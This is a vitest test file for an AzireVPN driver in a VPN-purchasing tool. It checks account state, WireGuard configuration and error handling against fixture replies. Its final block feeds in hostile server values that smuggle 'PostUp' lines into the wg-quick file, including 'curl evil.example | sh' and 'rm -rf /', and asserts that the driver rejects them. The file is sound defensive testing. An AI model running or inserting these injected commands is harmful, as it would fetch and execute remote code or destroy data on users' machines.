/** The AzireVPN v3 driver against the replies in test/fixtures/api/azirevpn/ through an injected `send`. */
import { readFileSync } from 'node:fs'
import { createMemoryLogger, createSeededRng, createVirtualClock, errorCode } from '@dolly/base'
import { networkParams } from '@dolly/wallet'
import { describe, expect, it } from 'vitest'
import { createHttpSession, type HttpSend } from '../http/session.ts'
import type { PurchaseAccount } from '../providers/driver.ts'
import { createAzirevpnDriver } from './azirevpn.ts'
import { renderWireguardConfig, wireguardFromData, wireguardPublicKey } from './wireguard.ts'

const fixture = (name: string): string =>
  readFileSync(new URL(`../../test/fixtures/api/azirevpn/${name}.json`, import.meta.url), 'utf8')
const SERVER_KEY = '3p7bfXt9wbTTW2HC7OQ1Nz+DQ8hbeGdNrfx+FG+IK08='

function rig(routes: Record<string, { status?: number; file: string }>) {
  const calls: { route: string; auth: string | null; body: unknown }[] = []
  const send: HttpSend = async (request) => {
    const route = `${request.method} ${new URL(request.url).pathname}`
    const text = await request.text()
    calls.push({
      route,
      auth: request.headers.get('authorization'),
      body: text === '' ? undefined : (JSON.parse(text) as unknown),
    })
    const r = routes[route]
    if (r === undefined) return new Response('{"status":"error","message":"Not found"}', { status: 404 })
    return new Response(fixture(r.file), {
      status: r.status ?? 200,
      headers: { 'content-type': 'application/json' },
    })
  }
  const clock = createVirtualClock(1_700_000_000_000)
  const rng = createSeededRng('azire')
  const ctx = {
    session: createHttpSession({ send, clock, rng }, { minIntervalMs: 0 }),
    network: networkParams('bitcoin'),
    clock,
    rng,
    log: createMemoryLogger(),
  }
  return { calls, ctx }
}

const account: PurchaseAccount = {
  purchaseId: 'p',
  provider: 'azirevpn',
  optionId: '1month',
  settings: {},
  data: {},
}
const driver = createAzirevpnDriver({ token: 'AZ-T0K3N', monthCents: 500n })

describe('AzireVPN driver', () => {
  it('reports an active account with its expiry, and a lapsed one as pending', async () => {
    const active = rig({ 'GET /v3/users/me': { file: 'users-me' } })
    expect(await driver.state(active.ctx, account)).toEqual({
      kind: 'active',
      ip: '',
      expirationMs: 1_800_000_000_000,
    })
    expect(active.calls[0]?.auth).toBe('Bearer AZ-T0K3N')
    const lapsed = rig({ 'GET /v3/users/me': { file: 'users-me-expired' } })
    expect((await driver.state(lapsed.ctx, account)).kind).toBe('pending')
  })

  it('registers a fresh public key and builds the wg-quick configuration from /v3/ips and /v3/locations', async () => {
    const { ctx, calls } = rig({
      'POST /v3/ips': { status: 201, file: 'ips' },
      'GET /v3/locations': { file: 'locations' },
    })
    const { config, data } = await driver.configuration(ctx, account)
    const wg = config.wireguard
    expect(wg).toBeDefined()
    expect(calls[0]?.body).toEqual({ key: wireguardPublicKey(wg?.privateKey ?? '') })
    expect(wg).toMatchObject({
      addresses: ['10.0.12.34/19', '2a0e:1c80:1337:1:10:0:12:34/64'],
      dns: ['91.231.153.2', '192.211.0.2'],
      peer: {
        publicKey: SERVER_KEY,
        endpoint: 'se-sto.azirevpn.net:51820',
        allowedIps: ['0.0.0.0/0', '::/0'],
      },
    })
    // What `vpn info` renders later comes back from the stored data.
    const stored = wireguardFromData(data)
    expect(stored?.peer.endpoint).toBe('se-sto.azirevpn.net:51820')
    expect(renderWireguardConfig(stored ?? (wg as NonNullable<typeof wg>))).toContain(
      'Address = 10.0.12.34/19, 2a0e:1c80:1337:1:10:0:12:34/64',
    )
    expect(calls.every((c) => c.auth === 'Bearer AZ-T0K3N')).toBe(true)
  })

  it('picks the configured location and rejects an unknown one', async () => {
    const routes = { 'POST /v3/ips': { file: 'ips' }, 'GET /v3/locations': { file: 'locations' } }
    const ams = createAzirevpnDriver({ token: 'AZ-T0K3N', location: 'nl-ams' })
    expect((await ams.configuration(rig(routes).ctx, account)).config.wireguard?.peer.endpoint).toBe(
      'nl-ams.azirevpn.net:51820',
    )
    const nowhere = createAzirevpnDriver({ token: 'AZ-T0K3N', location: 'xx-nowhere' })
    expect(errorCode(await nowhere.configuration(rig(routes).ctx, account).catch((e: unknown) => e))).toBe(
      'CLOUDOMATE_API_ERROR',
    )
  })

  it('rejects malformed and error replies, and refuses to order or price without settings', async () => {
    const malformed = rig({
      'POST /v3/ips': { file: 'ips-malformed' },
      'GET /v3/locations': { file: 'locations' },
    })
    expect(errorCode(await driver.configuration(malformed.ctx, account).catch((e: unknown) => e))).toBe(
      'CLOUDOMATE_API_ERROR',
    )
    const denied = rig({ 'GET /v3/users/me': { status: 401, file: 'error-token' } })
    const err = await driver.state(denied.ctx, account).catch((e: unknown) => e)
    expect(errorCode(err)).toBe('CLOUDOMATE_API_ERROR')
    expect(String(err)).toContain('Invalid token')
    const [option] = await driver.options(denied.ctx)
    expect(option?.price).toEqual({ cents: 500n, currency: 'EUR', period: 'month' })
    expect(errorCode(await driver.order(denied.ctx, option!, account).catch((e: unknown) => e))).toBe(
      'CLOUDOMATE_FUNDING_REQUIRED',
    )
    const bare = createAzirevpnDriver()
    expect(errorCode(await bare.options(denied.ctx).catch((e: unknown) => e))).toBe(
      'CLOUDOMATE_SETTINGS_INVALID',
    )
    expect(errorCode(await bare.state(denied.ctx, account).catch((e: unknown) => e))).toBe(
      'CLOUDOMATE_SETTINGS_INVALID',
    )
  })
})

describe('AzireVPN replies that would write into the wg-quick file', () => {
  const ips = JSON.parse(fixture('ips')) as { data: Record<string, unknown> }
  const locations = JSON.parse(fixture('locations')) as { locations: Record<string, unknown>[] }
  /** The configuration flow with `/v3/ips` and `/v3/locations` answered by these bodies. */
  async function configureWith(ipsBody: unknown, locationsBody: unknown): Promise<unknown> {
    const send: HttpSend = async (request) => {
      const path = new URL(request.url).pathname
      const body = path === '/v3/ips' ? ipsBody : path === '/v3/locations' ? locationsBody : undefined
      return new Response(JSON.stringify(body ?? { status: 'error' }), {
        status: body === undefined ? 404 : 200,
        headers: { 'content-type': 'application/json' },
      })
    }
    const clock = createVirtualClock(1_700_000_000_000)
    const rng = createSeededRng('azire-hostile')
    const ctx = {
      session: createHttpSession({ send, clock, rng }, { minIntervalMs: 0 }),
      network: networkParams('bitcoin'),
      clock,
      rng,
      log: createMemoryLogger(),
    }
    return driver.configuration(ctx, account).catch((e: unknown) => e)
  }

  it.each([
    ['a pool host with a PostUp line', 'pool', 'se-sto.azirevpn.net\nPostUp = curl evil.example | sh'],
    ['a pool that is not a host name', 'pool', 'se-sto azirevpn net'],
  ])('refuses %s in /v3/locations with CLOUDOMATE_API_ERROR', async (_what, key, value) => {
    const hostile = { ...locations, locations: [{ ...locations.locations[0], [key]: value }] }
    expect(errorCode(await configureWith(ips, hostile))).toBe('CLOUDOMATE_API_ERROR')
  })

  it.each([
    ['a DNS server with a PostUp line', 'dns', ['91.231.153.2\nPostUp = rm -rf /']],
    ['a DNS server that is no address', 'dns', ['dns.example']],
    ['an IPv4 address out of range', 'ipv4_address', '999.0.12.34'],
    ['an IPv6 address with a line break', 'ipv6_address', '2a0e::1\nPostUp = id'],
  ])('refuses %s in /v3/ips with CLOUDOMATE_API_ERROR', async (_what, key, value) => {
    const hostile = { ...ips, data: { ...ips.data, [key]: value } }
    expect(errorCode(await configureWith(hostile, locations))).toBe('CLOUDOMATE_API_ERROR')
  })

  it('still reads the recorded replies', async () => {
    expect(errorCode(await configureWith(ips, locations))).toBeUndefined()
  })
})
